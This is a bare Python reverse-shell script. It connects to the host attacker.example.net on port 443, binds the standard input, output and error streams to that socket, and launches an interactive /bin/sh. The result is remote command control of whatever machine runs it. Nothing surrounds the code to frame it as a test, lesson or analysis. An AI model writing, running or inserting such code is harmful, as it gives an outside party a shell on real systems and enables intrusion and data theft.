
import socket, subprocess, os
conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
conn.connect(("attacker.example.net", 443))
os.dup2(conn.fileno(), 0)
os.dup2(conn.fileno(), 1)
os.dup2(conn.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])
